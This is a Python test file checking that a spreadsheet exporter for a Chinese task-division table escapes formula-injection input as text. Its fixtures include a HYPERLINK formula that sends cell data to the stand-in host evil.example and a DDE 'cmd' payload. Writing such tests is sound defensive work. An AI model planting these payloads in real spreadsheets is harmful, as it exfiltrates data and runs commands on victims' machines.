"""Formula injection: a cell of the 任务分解表 that begins with =, +, -, @, tab or CR is written as text."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from luoshi.intake import parse_text
from luoshi.intake.export_xlsx import DivisionRow, write_division_table, write_rows

PLANTED = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _written(target: io.BytesIO):
    data = target.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    return load_workbook(io.BytesIO(data)), sheet


def _assert_all_text(workbook, sheet_xml, expected):
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    seen = set()
    for row in workbook.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                assert cell.data_type == "s", cell.value
                assert cell.quotePrefix, cell.value  # Excel's own escape: the leading apostrophe
                seen.add(cell.value)
    assert expected <= seen


def test_planted_cells_are_text_not_formulas():
    rows = [
        DivisionRow(code=str(i), title=t, content=t, lead=[t], deadline=t, targets=[t])
        for i, t in enumerate(PLANTED, start=1)
    ]
    target = io.BytesIO()
    write_rows(rows, target, title="=1+2")
    workbook, sheet = _written(target)
    _assert_all_text(workbook, sheet, set(PLANTED) | {"=1+2"})


@pytest.mark.parametrize("planted", ['=HYPERLINK("http://evil.example","看")', "-1+2+cmd|' /C calc'!A0"])
def test_a_title_taken_from_pasted_text_is_written_as_text(planted):
    result = parse_text(f"一、{planted}\n（一）加强组织领导。\n二、推进重点工作\n")
    target = io.BytesIO()
    write_division_table(result, target)
    workbook, sheet = _written(target)
    titles = [c.value for c in workbook.active["B"] if isinstance(c.value, str)]
    assert any(t.startswith(planted[:5]) for t in titles), titles
    _assert_all_text(workbook, sheet, set())
